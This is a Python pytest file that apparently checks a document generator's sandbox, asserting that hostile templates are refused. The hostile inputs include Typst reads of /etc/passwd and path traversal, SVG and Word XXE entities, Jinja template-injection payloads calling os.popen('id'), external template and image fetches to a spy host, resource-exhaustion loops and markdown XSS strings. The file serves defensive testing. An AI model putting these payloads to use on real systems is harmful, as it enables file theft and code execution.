"""Claims about what a repository brings along (templates, pictures, fonts): it reaches no file, no network and no code, and cannot hold up
the machine. Each attempt is a sentence and exit code 1."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import docx
import pytest
from test_forms import DOCUMENT

from samverka.actions.layout import layout
from samverka.diagnostics import Refusal
from samverka.output.documents import apart as apart_module
from samverka.output.documents.apart import apart
from samverka.output.documents.as_html import html
from samverka.output.documents.as_pdf import pdf
from samverka.output.documents.as_word import Logo, word
from samverka.output.documents.make import _pdf, _word
from samverka.output.documents.prose import prose
from support import write

PAGE = '#let d = json(bytes(sys.inputs.data))\n#set document(title: d.title)\n#set text(lang: "sv")\n= x\n'
SECRET = "hemligt-ord"


@pytest.fixture
def quick(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """A template may take two seconds and half a gigabyte."""
    monkeypatch.setattr(apart_module, "SECONDS", 2)
    yield


def as_pdf(root: Path, files: dict[str, str | bytes]) -> bytes:
    """The document by the templates of a repository with these files."""
    write(root, files)
    with layout(str(root), "c") as look:
        return _pdf(DOCUMENT, look).data


def as_word(root: Path, files: dict[str, str | bytes]) -> bytes:
    write(root, files)
    with layout(str(root), "c") as look:
        return _word(DOCUMENT, look)


@pytest.mark.parametrize(
    "attempt",
    [
        '#read("/etc/passwd")',
        '#read("../hemlig.txt")',
        '#read("../../hemlig.txt")',
        '#include "/etc/passwd"',
        '#image("/etc/passwd", alt: "x")',
        '#csv("../samverka.yml")',
        '#import "@preview/cetz:0.3.0"',
        '#import "@" + "preview/cetz:0.3.0": *',
        '#eval("read(\\"/etc/passwd\\")")',
        '#plugin("x.wasm")',
        "#while true {}",
        "#let f(n) = f(n + 1); #f(0)",
        "#panic(sys.inputs)",
    ],
)
def test_a_page_reaches_nothing(tmp_path: Path, attempt: str, quick: None) -> None:
    """A file outside, a package, an endless loop: each is refused with the template's name in the sentence."""
    (tmp_path / "hemlig.txt").write_text(SECRET, encoding="utf-8")
    with pytest.raises(Refusal) as stop:
        as_pdf(tmp_path / "repo", {"documents/page.typ": PAGE + attempt})
    assert "page.typ" in stop.value.message.say("sv") and stop.value.exit_code == 1
    assert SECRET not in stop.value.message.say("sv")


@pytest.mark.parametrize(
    "attempt",
    [
        "#for a in range(100000000) [#a]",
        "#let a = range(9000); #for x in a { for y in a { for z in a { let q = x } } }",
        '#let s = "x"; #for i in range(60) { s = s + s }',
    ],
)
def test_a_page_that_reckons_without_end(tmp_path: Path, attempt: str, quick: None) -> None:
    """Loops that typst itself would go on with for hours are stopped by the clock or the bound on memory."""
    with pytest.raises(Refusal) as stop:
        as_pdf(tmp_path, {"documents/page.typ": PAGE + attempt})
    assert "page.typ" in stop.value.message.say("sv")


@pytest.mark.parametrize("linked", ["documents", "c", "c/documents", "documents/fonts"])
def test_a_linked_folder_is_no_template(tmp_path: Path, linked: str) -> None:
    """A folder that is a link out of the repository brings no file in."""
    outside, root = tmp_path / "outside", tmp_path / "repo"
    write(outside, {"page.typ": PAGE + SECRET, "documents/page.typ": PAGE + SECRET, "a.ttf": b"x"})
    (root / linked).parent.mkdir(parents=True)
    (root / linked).symlink_to(outside, target_is_directory=True)
    with pytest.raises(Refusal) as stop, layout(str(root), "c"):
        pass
    assert "länk" in stop.value.message.say("sv")


def test_a_linked_file_is_no_template(tmp_path: Path) -> None:
    """A file that is a link is passed over, as a logo and as a font."""
    write(tmp_path, {"hemlig.txt": SECRET, "repo/documents/fonts/x.txt": "x"})
    for name in ("logo.svg", "page.docx", "page.typ", "fonts/a.ttf"):
        (tmp_path / "repo/documents" / name).symlink_to(tmp_path / "hemlig.txt")
    with layout(str(tmp_path / "repo"), "c") as look:
        assert (look.logo, look.word, look.own, len(look.fonts)) == (None, None, None, 1)


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 20 20" width="20" height="20">%s</svg>'
ENTITIES = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
USE = "<use xlink:href='#g{n}'/>"
USES = '<g id="g0"><rect width="1" height="1"/></g>' + "".join(
    f'<g id="g{n}">{USE.format(n=n - 1) * 10}</g>' for n in range(1, 12)
)
"""Ten times ten times ten … squares."""


@pytest.mark.parametrize(
    "inner",
    [
        '<image href="%s" width="20" height="20"/>',
        '<image href="file://%s" width="20" height="20"/>',
        '<image href="http://127.0.0.1:9/spion.png" width="20" height="20"/>',
        "<script>fetch('http://127.0.0.1:9/')</script><rect width='20' height='20'/>",
        '<foreignObject><iframe src="file://%s"/></foreignObject>',
        "<style>@import url('http://127.0.0.1:9/x.css'); rect{fill:url(http://127.0.0.1:9/x)}</style><rect width='2' height='2'/>",
    ],
)
def test_a_logo_brings_nothing_in(tmp_path: Path, inner: str) -> None:
    """A picture, script, page or style that an SVG logo names is not fetched: the document is the same wherever it lies, or refused."""
    picture = tmp_path / "x.png"
    picture.write_bytes(PNG)
    logo = SVG % inner.replace("%s", str(picture))
    found = []
    for there in (True, False):
        if not there:
            picture.unlink()
        for make in (as_pdf, as_word):
            try:
                found.append(make(tmp_path / "repo", {"documents/logo.svg": logo}))
            except Refusal as refused:
                found.append(refused.message.say("sv").encode())
    assert found[:2] == found[2:]


PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc000000301010018dd8db00000000049454e44ae426082"
)


@pytest.mark.parametrize(
    "logo", [SVG % USES.replace("%", "%%"), ENTITIES + SVG % "<text>&x;</text>", "inget", SVG[:40]]
)
def test_a_logo_that_is_none(tmp_path: Path, logo: str, quick: None) -> None:
    """A picture that would take for ever, asks for a file or is no picture is refused, in both forms, or drawn without what it asks for."""
    for make in (as_pdf, as_word):
        try:
            assert b"root:" not in make(tmp_path, {"documents/logo.svg": logo})
        except Refusal as refused:
            assert refused.exit_code == 1


def test_a_broken_logo_and_font(tmp_path: Path) -> None:
    """A .png that is none is a sentence; a font that is none is passed over."""
    for make in (as_pdf, as_word):
        with pytest.raises(Refusal):
            make(tmp_path / "a", {"documents/logo.png": b"\x89PNG nej"})
    assert as_pdf(tmp_path / "b", {"documents/fonts/x.ttf": b"\0\1\0\0nej"}).startswith(b"%PDF")


# --- Word


def template(*lines: str, parts: dict[str, str | bytes] | None = None) -> bytes:
    """A Word template with these lines; `parts` are files put into it instead of its own."""
    made = docx.Document()
    for line in lines:
        made.add_paragraph(line)
    held, out = io.BytesIO(), io.BytesIO()
    made.save(held)
    parts = parts or {}
    with zipfile.ZipFile(held) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            if name not in parts:
                target.writestr(name, source.read(name))
        for name, data in parts.items():
            target.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize(
    "line",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ content.tpl }}{{ content.docx.part.package }}{{ content.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ self._TemplateReference__context }}{{ self.__init__.__globals__ }}",
        "{{ '%s'|format(''.__class__.__mro__[1].__subclasses__()) }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}{{ os.system('id') }}",
        "{% for a in range(1000000000) %}x{% endfor %}",
        "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
        "{{ 'x' * 9999999999 }}",
        "{{ 10 ** (10 ** 10) }}",
        "{{ facts.append(1) }}",
    ],
)
def test_word_marks_reach_nothing(tmp_path: Path, line: str, quick: None) -> None:
    """Python's insides, files, and endless reckoning: refused, in a sentence, in time."""
    with pytest.raises(Refusal) as stop:
        as_word(tmp_path, {"documents/page.docx": template(line)})
    assert stop.value.exit_code == 1 and stop.value.message.say("sv")


XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("parts", "said"),
    [
        ({"word/document.xml": XXE}, "DOCTYPE"),
        ({"word/document.xml": XXE.encode("utf-16")}, "DOCTYPE"),
        ({"word/stor.xml": b"0" * 60_000_000}, "för stor"),
        ({"word/vbaProject.bin": b"x"}, "makron"),
        (
            {
                "word/_rels/settings.xml.rels": RELS.format(
                    kind="attachedTemplate", target="http://spion.example/x.dotm"
                )
            },
            "spion",
        ),
        ({"word/_rels/footer1.xml.rels": RELS.format(kind="image", target="http://spion.example/x.png")}, "spion"),
        ({"word/_rels/header1.xml.rels": RELS.format(kind="oleObject", target="file:///etc/passwd")}, "/etc/passwd"),
    ],
)
def test_word_parts_that_do_harm(tmp_path: Path, parts: dict[str, str | bytes], said: str) -> None:
    """A file type of its own, a bomb, macros, and whatever Word would fetch when the file is opened."""
    with pytest.raises(Refusal) as stop:
        as_word(tmp_path, {"documents/page.docx": template("x", parts=parts)})
    assert said in stop.value.message.say("sv")


def test_what_word_makes_fetches_nothing(tmp_path: Path) -> None:
    """The only things outside that a finished file names are links that a reader follows."""
    made = word(DOCUMENT, template("{{p content }}"), None)
    for data in (made, word(DOCUMENT, None, Logo(".png", PNG))):
        with zipfile.ZipFile(io.BytesIO(data)) as held:
            outside = [
                r for n in held.namelist() if n.endswith(".rels") for r in held.read(n).split(b"<") if b"External" in r
            ]
        assert outside and all(b"/hyperlink" in relation for relation in outside)


# --- words of a record


def test_words_of_a_record_fetch_nothing() -> None:
    """A script, an address that runs something, a picture from elsewhere: words, no link and no picture, in page and PDF."""
    hostile = (
        "<script>alert(1)</script> [x](javascript:alert(1)) ![spion](https://spion.example/p.gif) <img src=x onerror=alert(1)>\n\n"
        "[y](data:text/html,x) [z](file:///etc/passwd) <javascript:alert(1)> [q](//spion.example/q)\n"
    )
    made = DOCUMENT._replace(blocks=prose(hostile))
    page = html(made)
    assert "<script" not in page and "<img" not in page and "spion.example/p.gif" not in page
    assert (
        'href="javascript' not in page
        and 'href="data:' not in page
        and 'href="file' not in page
        and 'href="//' not in page
    )
    with layout("/", "c") as look:
        data = pdf(made, look.page, look.fonts, None).data
    assert b"/JavaScript" not in data and b"/JS" not in data and b"/Launch" not in data


def test_work_apart_says_its_own_refusals() -> None:
    """A refusal comes out of the process apart as it was said there."""
    with pytest.raises(Refusal) as stop:
        apart("page.typ", word, DOCUMENT, b"no zip")
    assert "Word" in stop.value.message.say("sv")
